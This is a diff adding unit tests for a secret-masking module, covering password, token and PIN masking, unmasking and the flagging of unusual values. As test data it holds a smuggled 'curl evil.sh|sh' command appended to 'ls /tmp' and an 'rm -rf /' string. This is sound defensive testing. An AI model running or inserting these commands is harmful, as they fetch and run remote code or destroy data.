@@ -258,4 +258,68 @@ test('the scan never says no where something is found', () => {
   );
 });
 
+test('a command that hides behind a password of its own is said to be unusual', () => {
+  const value = { password: '; curl evil.sh|sh #', command: 'ls /tmp ; curl evil.sh|sh #' };
+  const { value: masked } = mask(value, treeOf(value, 'args.password'));
+  assert.equal(
+    marksIn(masked).map(({ path, unusual }) => [path.join('.'), unusual]),
+    [
+      ['password', false],
+      ['command', true],
+    ],
+  );
+});
+
+test('what a detector finds in one place is secret in every other', () => {
+  const value = { url: 'postgres://svc:Winter2024x@db', env: { PGPASSWORD: 'Winter2024x' } };
+  const { value: masked, secrets } = mask(value);
+  assert.not.match(JSON.stringify(masked), 'Winter2024x');
+  assert.equal(unmaskSecrets(masked, secrets), value);
+});
+
+test('a number that is secret is secret as a number, too', () => {
+  const value = { pin: 12345678, other: 12345678, text: 'pin 12345678' };
+  const { value: masked, secrets } = mask(value, treeOf(value, 'args.pin'));
+  assert.not.match(JSON.stringify(masked), '12345678');
+  assert.equal(unmaskSecrets(masked, secrets), value);
+});
+
+test('a marked object of many lines is unusual', () => {
+  const value = { password: { a: 'line\nrm -rf /' }, plain: { b: 'word' } };
+  const { value: masked } = mask(value, treeOf(value, 'args.password', 'args.plain'));
+  assert.equal(
+    marksIn(masked).map(({ unusual }) => unusual),
+    [true, false],
+  );
+});
+
+test('more or longer secrets than are looked for are not kept in a copy of them', () => {
+  const long = 'x1'.repeat(750);
+  const value = { token: long, copy: `{"token":"${long}"}` };
+  const { value: masked, secrets } = mask(value, treeOf(value, 'args.token'));
+  assert.not.match(JSON.stringify(masked), long);
+  assert.equal(unmaskSecrets(masked, secrets), value);
+  const tokens = Array.from({ length: 80 }, (_, i) => `token-number-${String(i).padStart(3, '0')}`);
+  const many = { tokens, copy: JSON.stringify(tokens) };
+  const { value: kept } = mask(many, treeOf(many, 'args.tokens'));
+  assert.not.match(JSON.stringify(kept), /token-number-\d/);
+  assert.not.match(maskWords(`it is ${tokens[70]}`, tokens), 'token-number-070');
+});
+
+test('the marks of hostile arguments are bounded, and what they stand for comes back', () => {
+  const value = Array.from({ length: 5000 }, (_, i) => [`[secret: ${i}`]);
+  const { value: masked, secrets } = mask(value);
+  assert.ok(secrets.length < 5000 + 1000, String(secrets.length));
+  assert.equal(unmaskSecrets(masked, secrets), value);
+});
+
+test('the places of secrets fit into an entry', () => {
+  let value: Json = '[secret: x';
+  for (let depth = 0; depth < 60; depth += 1) value = { [`${'n'.repeat(58)}${depth % 10}`]: value };
+  const many = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`m${i}`, value]));
+  const places = secretPlaces(mask(many).value);
+  assert.ok(places.length > 10);
+  assert.ok(JSON.stringify(places).length < 20_000);
+});
+
 test.run();
